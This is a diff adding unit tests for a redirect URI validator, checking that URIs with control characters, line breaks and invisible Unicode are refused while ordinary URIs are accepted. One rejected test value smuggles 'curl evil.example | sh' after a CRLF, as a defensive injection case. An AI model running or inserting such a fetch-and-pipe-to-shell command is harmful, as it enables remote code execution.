@@ -56,3 +56,30 @@ describe('redirectUrisProblem', () => {
     expect(redirectUrisProblem(['authorization_code'], ['https://a.example/cb', 'http://evil.example/cb'])).toMatch(/evil/);
   });
 });
+
+describe('redirectUriProblem: hidden characters (issue #13 item 6)', () => {
+  it.each([
+    'https://app.example/cb\n',
+    'https://app.example/c\nb',
+    'https://app.example/c\tb',
+    'https://app.example/c b',
+    ' https://app.example/cb',
+    'https://app.example/cb\r\ncurl evil.example | sh',
+    'https://app.example/c\x00b',
+    'https://app.example/c\x7fb',
+    'https://app.example/c\u0085b',
+    'https://app.example/c\u00a0b',
+    'https://app.example/c\u2028b',
+    'https://app.example/c\u200bb',
+    'https://app.example/c\ufeffb',
+  ])('refuses %j', (uri) => expect(redirectUriProblem(uri)).toMatch(/space, tab, line break or other control character/));
+
+  it.each([
+    "https://app.example/cb?a='b'&c=(d)",
+    'https://xn--r8jz45g.jp/cb',
+    'https://app.example/%E4%B8%AD',
+    'http://[::1]:8080/cb',
+    'https://例え.jp/cb',
+    'https://app.example/cb?x="<b>',
+  ])('accepts %j', (uri) => expect(redirectUriProblem(uri)).toBeUndefined());
+});
